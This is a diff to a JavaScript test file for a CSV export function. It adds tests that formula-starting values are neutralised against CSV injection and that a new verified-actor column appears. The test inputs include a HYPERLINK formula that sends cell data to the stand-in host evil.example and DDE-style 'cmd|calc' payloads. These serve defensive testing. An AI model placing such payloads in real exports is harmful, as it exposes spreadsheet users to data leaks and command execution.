@@ -28,15 +28,34 @@ describe('csvField', () => {
   });
 });
 
+describe('csvField against CSV injection', () => {
+  it("a tenant's actor, revision or reason that starts a formula is exported as text", () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
+    );
+    expect(csvField('+1+cmd|calc')).toBe("'+1+cmd|calc");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe('"\'\r=1"');
+    expect(csvField('alice=admin')).toBe('alice=admin');
+  });
+
+  it('a forged actor in a whole row is neutralised and the verified column says claimed', () => {
+    const row = csvRow({ ...synced, kind: 'resume', actor: '=cmd|calc', actorVerified: false });
+    expect(row).toContain(",resume,'=cmd|calc,false,");
+  });
+});
+
 describe('csvRow', () => {
   it('writes the columns of the header, objects named by formatRef, details as canonical JSON', () => {
     const row = csvRow(synced);
     expect(row.endsWith('\r\n')).toBe(true);
-    expect(row).toContain('1,r1,2026-01-02T03:04:05.000Z,shop/web,sync-applied,ballast,abc123,');
+    expect(row).toContain('1,r1,2026-01-02T03:04:05.000Z,shop/web,sync-applied,ballast,,abc123,');
     expect(row).toContain('Deployment.apps/shop/web');
     // The signer's quotes are doubled inside a quoted field.
     expect(row).toContain('""signer"":""Jane \\""JJ\\"" Doe, Ops""');
-    expect(csvHeader).toHaveLength(11);
+    expect(csvHeader).toHaveLength(12);
   });
 });
 
